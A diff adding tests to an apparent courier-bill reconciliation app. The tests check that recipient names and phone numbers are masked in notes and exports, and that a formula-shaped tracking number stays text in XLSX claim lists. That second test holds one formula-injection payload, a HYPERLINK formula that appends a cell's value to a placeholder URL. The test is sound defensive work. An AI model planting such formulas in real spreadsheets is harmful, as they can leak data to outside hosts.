@@ -75,6 +75,42 @@ def test_L3_a_bill_uploaded_is_matched_listed_resolved_and_claimed(api, shipped)
     assert "730000000003" not in text  # shipped but not billed is no claim to the courier
 
 
+def test_L3_a_clerks_note_quoting_the_recipient_is_masked_on_the_page_and_in_the_claim_list(api, shipped):
+    from pypdf import PdfReader
+
+    clerk = api.as_("clerk")
+    content = bill_csv(HEADER, [["730000000001", "SO-1", "1", "8", "浙江"],
+                                ["730000000002", "SO-2", "3", "16", "浙江"]])
+    assert _upload(clerk, content).status_code == 201
+    over = clerk.get("/api/v1/reconciliation/differences?courier=ZTO&type=weight_over").get_json()["items"][0]
+    note = f"收件人{RECIPIENT[0]} 电话{RECIPIENT[1]} 说没收到"
+    changed = clerk.post(f"/api/v1/reconciliation/differences/{over['id']}/status",
+                         json={"status": "claimed", "note": note})
+    assert changed.status_code == 200, changed.get_json()
+    masked = "收件人张** 电话138****8000 说没收到"
+    assert changed.get_json()["note"] == masked and changed.get_json()["history"][-1]["note"] == masked
+    listed = clerk.get("/api/v1/reconciliation/differences?courier=ZTO&type=weight_over").get_json()["items"][0]
+    assert listed["note"] == masked
+    sheet = load_workbook(io.BytesIO(clerk.get("/api/v1/reconciliation/claims?courier=ZTO&format=xlsx").data)).active
+    xlsx = " ".join(str(c) for row in sheet.iter_rows(values_only=True) for c in row if c is not None)
+    pdf = PdfReader(io.BytesIO(clerk.get("/api/v1/reconciliation/claims?courier=ZTO&format=pdf").data))
+    pdf_text = "\n".join(page.extract_text() for page in pdf.pages)
+    for text in (xlsx, pdf_text):
+        assert "138****8000 说没收到" in text
+        assert RECIPIENT[0] not in text and RECIPIENT[1] not in text
+
+
+def test_L3_a_tracking_number_shaped_like_a_formula_stays_text_in_the_claim_list(api, shipped):
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    clerk = api.as_("clerk")
+    assert _upload(clerk, bill_csv(HEADER, [[formula, "", "1", "8", "浙江"]])).status_code == 201
+    export = clerk.get("/api/v1/reconciliation/claims?courier=ZTO&cycle=2026-11&format=xlsx")
+    sheet = load_workbook(io.BytesIO(export.data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
+    assert cells and all(cell.data_type == "s" for cell in cells)
+    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(export.data)).read("xl/worksheets/sheet1.xml")
+
+
 def test_L3_only_a_role_that_reconciles_may_upload(api, shipped):
     response = _upload(api.as_("picker"), bill_csv(HEADER, [["730000000001", "", "1", "8", ""]]))
     assert response.status_code == 403
@@ -141,8 +177,8 @@ def test_L3_the_claim_list_as_pdf_has_chinese_text_the_tracking_numbers_and_no_p
     assert 'filename="claims-ZTO-2026-11.pdf"' in export.headers["Content-Disposition"]
     reader = PdfReader(io.BytesIO(export.data))
     text = "\n".join(page.extract_text() for page in reader.pages)
-    for words in ("索赔清单", "运单号", "超重计费", "重复计费", "未发货计费", "730000000002", "739999999999", "SO-2",
-                  "张**", "138****8000", "第 1 页"):
+    for words in ("索赔清单", "运单号", "计费重量超出", "重复计费", "有账单无发货", "730000000002", "739999999999",
+                  "SO-2", "张**", "138****8000", "第 1 页"):
         assert words in text, words
     assert all(secret not in text for secret in RECIPIENT)
     assert "730000000003" not in text  # shipped but not billed is no claim to the courier
